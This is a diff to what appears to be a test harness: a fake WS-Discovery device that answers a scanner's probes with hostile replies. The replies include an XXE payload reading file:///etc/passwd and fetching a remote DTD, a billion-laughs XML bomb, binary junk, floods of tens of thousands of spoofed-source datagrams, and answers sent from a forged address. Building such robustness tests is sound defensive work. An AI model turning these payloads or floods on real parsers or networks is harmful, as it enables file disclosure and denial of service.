@@ -18,11 +18,19 @@ Options (all optional):
   mode      "normal" | "unsolicited" (also sends a second ProbeMatches whose
             RelatesTo is a random id, naming a different endpoint) |
             "malformed" (the ProbeMatches cut short mid-element) |
-            "xml-bomb" (a billion-laughs DTD around a ProbeMatches naming the probe)
+            "xml-bomb" (a billion-laughs DTD around a ProbeMatches naming the probe) |
+            "xxe" (external entities: a file:// entity in the Scopes and an
+            external parameter entity fetching a DTD from ``{ip}``) |
+            "garbage" (binary junk that quotes the probe's MessageID) |
+            "flood" (``flood_count`` ProbeMatches datagrams per probe, each a
+            distinct endpoint with its own uuid and mac/ scope)
+  flood_count  distinct fake endpoints per probe in "flood" mode (default 10000)
+  spoof_from   answer from this forged source address (see base.DatagramResponder)
 """
 
 from __future__ import annotations
 
+import asyncio
 import re
 import socket
 import uuid
@@ -52,7 +60,10 @@ NS_WSD = "http://schemas.xmlsoap.org/ws/2005/04/discovery"
 ACTION_PROBE = NS_WSD + "/Probe"
 ACTION_MATCHES = NS_WSD + "/ProbeMatches"
 ANONYMOUS = NS_WSA + "/role/anonymous"
-MODES = ("normal", "unsolicited", "malformed", "xml-bomb")
+MODES = ("normal", "unsolicited", "malformed", "xml-bomb", "xxe", "garbage", "flood")
+FLOOD_DEFAULT = 10_000
+FLOOD_MAX = 50_000
+FLOOD_BATCH = 250  # datagrams sent between yields, so the other devices still answer
 
 # The prefixes a device's Types may use, and what they stand for.
 PREFIXES = {
@@ -116,6 +127,7 @@ class WsdResponder(DatagramResponder):
         "xaddrs": list,
         "metadata_version": int,
         "mode": str,
+        "flood_count": int,
     }
 
     @classmethod
@@ -138,6 +150,9 @@ class WsdResponder(DatagramResponder):
                     raise OptionError(f"{key}[{i}]", "must be a non-empty string without spaces")
         if options.get("mode", "normal") not in MODES:
             raise OptionError("mode", f"must be one of {', '.join(MODES)}")
+        count = options.get("flood_count", FLOOD_DEFAULT)
+        if not 1 <= count <= FLOOD_MAX:
+            raise OptionError("flood_count", f"{count} is not within 1..{FLOOD_MAX}")
 
     def __init__(self, device: str, service: ServiceSpec) -> None:
         super().__init__(device, service)
@@ -152,6 +167,7 @@ class WsdResponder(DatagramResponder):
         self.message_number = 0
         self.instance_id = 1_700_000_000
         self._probe: socket.socket | None = None
+        self._tasks: set[asyncio.Task[None]] = set()
 
     def bind(self) -> None:
         super().bind()
@@ -159,6 +175,8 @@ class WsdResponder(DatagramResponder):
         self._probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 
     async def stop(self) -> None:
+        for task in list(self._tasks):
+            task.cancel()
         if self._probe is not None:
             self._probe.close()
         await super().stop()
@@ -196,11 +214,17 @@ class WsdResponder(DatagramResponder):
                 return None
         return mid
 
-    def matches(self, relates_to: str, ip: str, endpoint: str | None = None) -> bytes:
+    def matches(
+        self,
+        relates_to: str,
+        ip: str,
+        endpoint: str | None = None,
+        extra_scopes: tuple[str, ...] = (),
+    ) -> bytes:
         self.message_number += 1
         ns = " ".join(f'xmlns:{p}="{u}"' for p, u in PREFIXES.items())
         xaddrs = " ".join(x.replace("{ip}", ip) for x in self.xaddrs)
-        scopes = " ".join(self.scopes)
+        scopes = " ".join([*self.scopes, *extra_scopes])
         return (
             '<?xml version="1.0" encoding="UTF-8"?>\n'
             f'<SOAP-ENV:Envelope xmlns:SOAP-ENV="{NS_SOAP12}" xmlns:wsa="{NS_WSA}" '
@@ -229,18 +253,43 @@ class WsdResponder(DatagramResponder):
         mid = self.probe_id(data)
         if mid is None:
             return None
-        ip = own_ip(self._probe, addr[0]) if self._probe is not None else "0.0.0.0"
+        if self.spoof_from is not None:
+            ip = self.spoof_from
+        else:
+            ip = own_ip(self._probe, addr[0]) if self._probe is not None else "0.0.0.0"
+        if self.mode == "flood":
+            task = asyncio.get_running_loop().create_task(self._flood(mid, ip, addr))
+            self._tasks.add(task)
+            task.add_done_callback(self._tasks.discard)
+            return None
         answer = self.matches(mid, ip)
-        if self.mode == "unsolicited" and self._transport is not None:
+        if self.mode == "unsolicited":
             # a second device's match "relating" to a probe nobody sent
             stray = self.matches(f"urn:uuid:{uuid.uuid4()}", ip, endpoint=str(uuid.uuid4()))
-            self._transport.sendto(stray, addr)
+            self.send(stray, addr)
         elif self.mode == "malformed":
             answer = answer[: len(answer) * 2 // 3]
         elif self.mode == "xml-bomb":
             answer = bomb(answer)
+        elif self.mode == "xxe":
+            answer = external_entities(answer, ip)
+        elif self.mode == "garbage":
+            answer = b"\x00\xff\xfe<?xml \x01" + mid.encode() + b"\x80\x81" + bytes(range(32))
         log.debug("%r: ProbeMatches to %s:%d for %s", self, addr[0], addr[1], mid)
         return answer
+
+    async def _flood(self, mid: str, ip: str, addr: tuple[str, int]) -> None:
+        """``flood_count`` distinct fake endpoints, answered in batches."""
+        count = int(self.opts.get("flood_count", FLOOD_DEFAULT))
+        base = uuid.UUID(self.uuid).int
+        for i in range(1, count + 1):
+            endpoint = str(uuid.UUID(int=(base + i) % (1 << 128)))
+            mac = f"0e:f1:00:{(i >> 16) & 0xFF:02x}:{(i >> 8) & 0xFF:02x}:{i & 0xFF:02x}"
+            scopes = (f"onvif://www.onvif.org/MAC/{mac}", f"onvif://www.onvif.org/name/Flood{i}")
+            self.send(self.matches(mid, ip, endpoint=endpoint, extra_scopes=scopes), addr)
+            if i % FLOOD_BATCH == 0:
+                await asyncio.sleep(0)
+        log.debug("%r: flooded %s:%d with %d ProbeMatches", self, addr[0], addr[1], count)
 
 
 def bomb(document: bytes) -> bytes:
@@ -253,3 +302,19 @@ def bomb(document: bytes) -> bytes:
     root = rest.split(b":", 1)[0].lstrip(b"<")
     dtd = f"<!DOCTYPE {root.decode()}:Envelope [{''.join(ents)}]>\n".encode()
     return head + b"\n" + dtd + rest.replace(b"<d:Scopes>", b"<d:Scopes>&lol9;", 1)
+
+
+def external_entities(document: bytes, ip: str) -> bytes:
+    """The document behind a DTD naming external entities (XXE), used in the Scopes.
+
+    A parser that resolves them reads a local file into the reply and fetches
+    a DTD from ``ip`` (an address the scanner must never contact unasked).
+    """
+    head, _, rest = document.partition(b"\n")
+    root = rest.split(b":", 1)[0].lstrip(b"<")
+    dtd = (
+        f"<!DOCTYPE {root.decode()}:Envelope ["
+        '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
+        f'<!ENTITY % remote SYSTEM "http://{ip}/xxe.dtd"> %remote;]>\n'
+    ).encode()
+    return head + b"\n" + dtd + rest.replace(b"<d:Scopes>", b"<d:Scopes>&xxe; ", 1)
